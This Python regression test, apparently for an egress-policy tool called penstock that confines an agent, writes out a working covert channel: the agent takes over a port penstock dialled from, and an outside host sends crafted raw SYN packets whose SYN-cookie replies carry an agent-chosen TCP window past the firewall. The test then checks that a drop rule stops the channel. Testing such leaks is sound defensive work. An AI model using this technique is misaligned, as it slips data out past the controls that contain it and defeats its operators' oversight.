# SPDX-License-Identifier: Apache-2.0
"""A port from which penstock has dialled, taken over by an agent's listener.

The mark of penstock's attempt stays in connection tracking after its socket
has gone.  An outside host that is the agent's friend calls back: the listener
answers by a SYN cookie, which the kernel sends without an owner, so that it
looks like a last packet of penstock's own.  What such an answer carries is
the agent's to choose: its window.
"""
import re

from lab import PYTHON, sh

FRIEND = "203.0.113.15"       # outer.test, which the policy allows
WINDOW = "1203"

# The friend's host says nothing by itself: all is said by hand.
MUTE = """table inet mute {
	chain in {
		type filter hook input priority -10
		ip daddr %s tcp dport 443 drop
	}
}
""" % FRIEND

# Have penstock dial, find its port, give up, listen there.
AGENT = """
import socket, ssl, struct, sys, time
friend, window = sys.argv[1:]
i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
t = ssl._create_unverified_context().wrap_bio(i, o,
                                              server_hostname="outer.test")
try:
    t.do_handshake()
except ssl.SSLWantReadError:
    pass
to = "%08X:01BB" % struct.unpack("<I", socket.inet_aton(friend))[0]
def dialled():
    rows = [l.split() for l in open("/proc/net/tcp").read().splitlines()[1:]]
    return [int(r[1][9:], 16) for r in rows if r[2] == to and r[3] == "02"]
socket.getaddrinfo("outer.test", 443)
s = socket.create_connection((friend, 443), 5)
s.sendall(o.read())
end = time.time() + 4
while not dialled() and time.time() < end:
    time.sleep(.02)
port = dialled()[0]
s.close()
while port in dialled():
    time.sleep(.05)
l = socket.socket()
l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("0.0.0.0", port))
l.setsockopt(6, 10, int(window))        # TCP_WINDOW_CLAMP
l.listen(8)
print("listens on", port, flush=True)
time.sleep(20)
"""

CALLER = """
import socket, struct, sys, time
here, there, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
rx = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(0x800))
rx.bind(("sh0", 0))
rx.settimeout(.1)
ends = socket.inet_aton(here) + socket.inet_aton(there)
def total(b):
    n = sum(struct.unpack(">%dH" % (len(b) // 2), b))
    while n >> 16:
        n = (n & 0xffff) + (n >> 16)
    return ~n & 0xffff
def syn(seq):
    t = struct.pack(">HHIIBBHHHBBH", 443, port, seq, 0, 96, 2, 1000, 0, 0,
                    2, 4, 8960)
    t = t[:16] + struct.pack(">H", total(ends + struct.pack(">HH", 6, 24) +
                                         t)) + t[18:]
    tx.sendto(struct.pack(">BBHHHBBH", 69, 0, 44, 0, 0, 64, 6, 0) + ends + t,
              (there, 0))
def heard(seconds):
    end = time.time() + seconds
    while time.time() < end:
        try:
            p = rx.recv(65536)[14:]
        except TimeoutError:
            continue
        if p[9] != 6 or p[12:16] != ends[4:] or p[16:20] != ends[:4]:
            continue
        t = struct.unpack(">HHIIBBH", p[20:36])
        if t[:2] == (port, 443) and t[5] == 18:
            return t[6]
for k in range(24):             # tracking lets some cookies pass, not all
    syn(5000 + k * 0x19999999 & 0xffffffff)
    window = heard(.2)
    if window is not None:
        sys.exit("answered with %d" % window)
sys.exit("silence")
"""


def call_back(lab):
    """What the friend gets from the agent's listener on penstock's port."""
    agent = lab.start("shared", *lab.AS_AGENT, PYTHON, "-c", AGENT, FRIEND,
                      WINDOW, stdout=-1)
    try:
        said = agent.stdout.readline().decode()
        port = re.fullmatch(r"listens on (\d+)\n", said)
        assert port, said + agent.stdout.read().decode()
        return lab.run("world", PYTHON, "-c", CALLER, FRIEND, "198.18.3.2",
                       port.group(1))
    finally:
        lab.stop(agent)


def test_n35_a_listener_on_a_port_of_penstocks_answers_nobody(lab):
    """The sibling of an inbound connection to a port that is not served."""
    lab.up("shared")
    sh("ip", "netns", "exec", lab.ns("world"), "nft", "-f", "-", input=MUTE)
    sh("ip", "netns", "exec", lab.ns("shared"), "sysctl", "-qw",
       "net.ipv4.tcp_syncookies=2")
    try:
        lab.without("post/orphan-syn")
        for _ in range(6):      # tracking lets few through
            r = call_back(lab)
            if r.err.strip() != "silence":
                break
        assert r.err.strip() == "answered with " + WINDOW, r
        assert lab.verb("rules", "apply", "-c", lab.conf).status == 0
        for _ in range(6):      # until one came as far as the rule
            r = call_back(lab)
            assert r.err.strip() == "silence" and r.out == "", r
            out = lab.run("shared", "nft", "list", "chain", "inet",
                          "penstock", "post").out
            dropped = re.search(r"packets (\d+).*post/orphan-syn", out)
            assert dropped, out
            if int(dropped.group(1)) > 0:
                break
        else:
            raise AssertionError(out)
    finally:
        sh("ip", "netns", "exec", lab.ns("shared"), "sysctl", "-qw",
           "net.ipv4.tcp_syncookies=1")
        sh("ip", "netns", "exec", lab.ns("world"), "nft", "delete", "table",
           "inet", "mute")
        lab.down()
